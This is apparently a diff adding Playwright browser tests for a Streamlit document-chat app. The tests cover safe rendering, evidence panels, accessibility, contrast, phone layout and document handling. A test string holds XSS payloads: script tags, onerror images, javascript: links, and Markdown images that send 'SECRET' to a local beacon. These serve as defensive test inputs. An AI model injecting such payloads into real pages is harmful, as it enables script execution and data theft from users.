@@ -1,0 +1,301 @@
+"""The pages in a real browser: what cannot be seen without one."""
+
+from __future__ import annotations
+
+import re
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.browser.conftest import OpenBrowser
+from tests.browser.servers import Server
+
+LIVE = ".sheet :is(img, script, iframe, object, embed, svg:not(.icon), style, link, form)"
+HOSTILE = (
+    "ECHO <script>document.title='owned'</script> <img src=x onerror=\"document.title='owned'\"> "
+    "![a]({beacon}/1?q=SECRET) ![b][r] [click]({beacon}/2) <{beacon}/3> "
+    "[x](javascript:document.title='owned') <iframe srcdoc='<script>1</script>'></iframe> "
+    "[1] `<b>code</b>` $x^2$ :tada: **bold**" + " and so on" * 200
+)
+
+
+@pytest.fixture
+def beacon() -> Iterator[tuple[str, list[str]]]:
+    """A server that notes every request: an exfiltration would be one."""
+    hits: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            hits.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, format: str, *args: object) -> None:
+            """Nothing: `hits` is the log."""
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}", hits
+    server.shutdown()
+    server.server_close()
+
+
+def ask(page: Page, question: str) -> None:
+    page.get_by_test_id("stChatInputTextArea").fill(question)
+    page.keyboard.press("Enter")
+
+
+def load_samples(page: Page, server: Server) -> None:
+    page.goto(server.url)
+    page.get_by_role("button", name="Load the sample library").click()
+    page.get_by_text("Try one of these").wait_for()
+
+
+def first_answer(page: Page, server: Server) -> None:
+    load_samples(page, server)
+    page.get_by_role("button", name="What is carried").click()
+    page.locator("button.chip.cited").first.wait_for()
+
+
+def test_markup_stays_text_while_it_streams_and_after(
+    pages: Server, open_browser: OpenBrowser, beacon: tuple[str, list[str]]
+) -> None:
+    """FAULTS D1 to D4 in the DOM."""
+    url, hits = beacon
+    page = open_browser()
+    page.goto(pages.url)
+    ask(page, HOSTILE.format(beacon=url))
+    page.locator(".prose.live").wait_for()
+    seen = 0
+    while page.locator(".prose.live").count():
+        assert page.locator(LIVE).count() == 0
+        assert page.locator(".sheet a").count() == 0
+        seen += 1
+    page.locator("button.chip.cited").first.wait_for()
+    assert seen > 2
+    assert page.locator(LIVE).count() == 0
+    assert page.locator(".sheet a").count() == 0
+    prose = page.locator(".prose")
+    expect(prose).to_contain_text("<script>document.title='owned'</script> <img src=x onerror=")
+    expect(prose).to_contain_text("image left out: a")
+    expect(prose).to_contain_text(f"click ({url}/2)")
+    expect(prose).to_contain_text("$x^2$ :tada: bold")
+    assert prose.locator("code").inner_text() == "<b>code</b>"
+    assert "owned" not in page.title()
+    # The title of the conversation is the question: a label, where Streamlit reads Markdown.
+    label = page.get_by_test_id("stSidebar").get_by_text("ECHO <script>")
+    expect(label.first).to_be_visible()
+    assert page.get_by_test_id("stSidebar").locator("img[src=x], .katex").count() == 0
+    assert hits == []
+
+
+def test_names_in_labels_stay_text(pages: Server, open_browser: OpenBrowser) -> None:
+    """FAULTS D1 in names: of a session, a document, a conversation."""
+    name = "**b** $x$ <img src=x> [l](http://e.vil) :tada: `c` www.e.vil"
+    page = open_browser()
+    page.goto(pages.url)
+    page.get_by_test_id("stSidebar").get_by_test_id("stMenuButton").locator("button").first.click()
+    page.get_by_text("Rename", exact=True).click()
+    page.get_by_role("textbox", name="Name").fill(name)
+    page.get_by_test_id("stDialog").get_by_role("button", name="Rename").click()
+    expect(page.get_by_role("combobox", name="Session")).to_have_value(name)
+    page.goto(f"{pages.url}/Documents")
+    upload = {"name": name, "mimeType": "text/plain", "buffer": b"x"}
+    empty = {"name": f"empty {name}", "mimeType": "text/plain", "buffer": b""}
+    page.locator("input[type=file]").set_input_files([upload, empty])
+    expect(page.locator(".documents .label")).to_have_text(name)
+    said = page.get_by_text("The file is empty").first
+    expect(said).to_be_visible()
+    text = said.locator("xpath=ancestor-or-self::p").inner_text().replace("\u2060", "")
+    assert f"empty {name}" in text
+    assert page.locator("img[src=x], .katex, a[href*='e.vil']").count() == 0
+
+
+def test_nothing_is_loaded_from_elsewhere(pages: Server, open_browser: OpenBrowser) -> None:
+    page = open_browser()
+    foreign: list[str] = []
+    page.on(
+        "request",
+        lambda r: (
+            None if r.url.startswith((pages.url, "data:", "blob:")) else foreign.append(r.url)
+        ),
+    )
+    first_answer(page, pages)
+    for path in ("Documents", "Search", "Status"):
+        page.goto(f"{pages.url}/{path}")
+        expect(page.get_by_role("heading", name=path)).to_be_visible()
+    assert foreign == []
+
+
+def test_a_chip_opens_its_evidence_with_the_passage_marked(
+    pages: Server, open_browser: OpenBrowser
+) -> None:
+    page = open_browser()
+    first_answer(page, pages)
+    chip = page.locator("button.chip.cited").nth(1)
+    chip.hover()
+    card = page.locator(".card")
+    expect(card).to_be_visible()
+    expect(card.locator("mark")).to_have_text(
+        "That place is carried from the moment the chunk is cut."
+    )
+    chip.click()
+    evidence = page.locator(".evidence")
+    expect(evidence).to_contain_text("Page 3")
+    expect(evidence.locator(".box")).to_have_count(1)
+    box, body = evidence.locator(".box").bounding_box(), evidence.bounding_box()
+    assert box
+    assert body
+    assert body["y"] < box["y"] < body["y"] + body["height"]
+    beside = page.locator(".main").bounding_box()
+    assert beside
+    assert body["x"] >= beside["x"] + beside["width"]
+    evidence.get_by_label("Next page").click()
+    expect(evidence).to_contain_text("Page 4")
+    evidence.get_by_label("Previous page").click()
+    expect(evidence.locator(".box")).to_have_count(1)
+    evidence.get_by_label("Close the evidence").click()
+    expect(evidence).to_have_count(0)
+
+
+def test_text_and_web_evidence_is_marked_in_its_surroundings(
+    pages: Server, open_browser: OpenBrowser
+) -> None:
+    page = open_browser()
+    first_answer(page, pages)
+    page.locator("button.source[data-source=cited-2]").click()
+    mark = page.locator(".evidence mark")
+    expect(mark).to_have_text(re.compile("^Reciprocal rank fusion"))
+    expect(page.locator(".evidence-body")).to_contain_text("Dense retrieval compares meanings")
+    page.get_by_text("Found but not used (2)").click()
+    page.locator("button.source[data-source=unused-0]").click()
+    out = page.get_by_label("Open the page on the web, at the passage")
+    expect(out).to_have_attribute("href", "https://example.org/measures#:~:text=rank")
+    expect(out).to_have_attribute("rel", "noopener noreferrer nofollow")
+
+
+def test_everything_can_be_reached_with_the_keyboard(
+    pages: Server, open_browser: OpenBrowser
+) -> None:
+    page = open_browser()
+    first_answer(page, pages)
+    chip = page.locator("button.chip.cited").first
+    page.keyboard.press("Tab")
+    for _ in range(40):
+        if chip.evaluate("node => node === node.getRootNode().activeElement"):
+            break
+        page.keyboard.press("Tab")
+    expect(page.locator(".card")).to_be_visible()
+    page.keyboard.press("Enter")
+    evidence = page.locator(".evidence")
+    expect(evidence).to_be_visible()
+    assert chip.evaluate("node => node === node.getRootNode().activeElement")
+    evidence.get_by_label("Close the evidence").press("Escape")
+    expect(evidence).to_have_count(0)
+
+
+@pytest.mark.parametrize("dark", [False, True])
+def test_text_is_readable_in_both_themes(
+    pages: Server, open_browser: OpenBrowser, dark: bool, artifacts: Path
+) -> None:
+    page = open_browser(dark=dark)
+    first_answer(page, pages)
+    page.screenshot(path=artifacts / f"answer-{'dark' if dark else 'light'}.png")
+    background = page.evaluate("getComputedStyle(document.querySelector('.stApp')).backgroundColor")
+    assert (brightness(background) < 0.2) is dark
+    for selector, least in (
+        (".prose", 7),
+        (".source-label", 7),
+        (".source-quote", 4.5),
+        ("h4", 4.5),
+    ):
+        colour = page.locator(selector).first.evaluate("node => getComputedStyle(node).color")
+        assert contrast(colour, background) >= least, selector
+
+
+def test_a_phone_shows_everything_without_scrolling_sideways(
+    pages: Server, open_browser: OpenBrowser, artifacts: Path
+) -> None:
+    page = open_browser(phone=True)
+    first_answer(page, pages)
+    page.locator("button.chip.cited").first.tap()
+    expect(page.locator(".card")).to_be_visible()
+    page.screenshot(path=artifacts / "phone-card.png")
+    page.locator(".card").get_by_text("Open").tap()
+    evidence = page.locator(".evidence")
+    expect(evidence).to_be_visible()
+    gap = evidence.evaluate(
+        "node => node.getBoundingClientRect().top"
+        " - node.parentNode.querySelector('.main').getBoundingClientRect().bottom"
+    )
+    assert gap >= 0
+    page.screenshot(path=artifacts / "phone-evidence.png")
+    for path in ("", "Documents", "Search", "Status"):
+        page.goto(f"{pages.url}/{path}")
+        page.get_by_test_id("stMain").locator("h1, .question").first.wait_for()
+        assert page.evaluate("document.documentElement.scrollWidth") <= 390, path
+
+
+def test_a_stopped_answer_keeps_what_was_written(pages: Server, open_browser: OpenBrowser) -> None:
+    page = open_browser()
+    page.goto(pages.url)
+    ask(page, "ECHO " + "A long answer goes on. " * 80)
+    page.locator(".prose.live").wait_for()
+    page.get_by_role("button", name="Stop").click()
+    expect(page.locator("footer")).to_contain_text("incomplete")
+    expect(page.locator(".notice.info")).to_contain_text("You stopped this answer.")
+
+
+def test_documents_are_previewed_taken_out_and_removed(
+    pages: Server, open_browser: OpenBrowser
+) -> None:
+    page = open_browser()
+    page.goto(f"{pages.url}/Documents")
+    files = [
+        {"name": name, "mimeType": "text/plain", "buffer": name.encode()}
+        for name in ("a.md", "b.md")
+    ]
+    page.locator("input[type=file]").set_input_files(files)
+    expect(page.locator(".row.ready")).to_have_count(2)
+    page.get_by_label("Search in a.md").click()
+    expect(page.locator(".row.out")).to_have_count(1)
+    expect(page.get_by_text("2 documents: 2 ready, 1 not searched")).to_be_visible()
+    page.get_by_role("button", name="Preview b.md").click()
+    dialog = page.get_by_test_id("stDialog")
+    expect(dialog).to_contain_text("Keeping what was said")
+    dialog.get_by_role("tab", name="Chunks").click()
+    expect(dialog).to_contain_text("1 · page 3 · Storage › Keeping what was said")
+    page.keyboard.press("Escape")
+    expect(dialog).to_have_count(0)
+    page.get_by_role("button", name="Remove b.md").click()
+    page.get_by_role("button", name="Remove", exact=True).click()
+    expect(page.locator(".row")).to_have_count(1)
+    page.reload()
+    expect(page.locator(".row.out .label")).to_have_text("a.md")
+
+
+def test_the_log_is_clean(pages: Server, open_browser: OpenBrowser) -> None:
+    """After all of the above: no deprecated call, no traceback."""
+    page = open_browser()
+    first_answer(page, pages)
+    said = pages.said().lower()
+    for word in ("deprecat", "use_container_width", "traceback", "exception"):
+        assert word not in said
+
+
+def brightness(colour: str) -> float:
+    """Relative luminance of a CSS colour (WCAG 2.2)."""
+    found = re.findall(r"[\d.]+", colour)
+    parts = [float(v) if "srgb" in colour else float(v) / 255 for v in found[:3]]
+    linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
+    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
+
+
+def contrast(one: str, other: str) -> float:
+    """The contrast ratio of two colours (WCAG 2.2), 1 to 21."""
+    light, dark = sorted((brightness(one), brightness(other)), reverse=True)
+    return (light + 0.05) / (dark + 0.05)
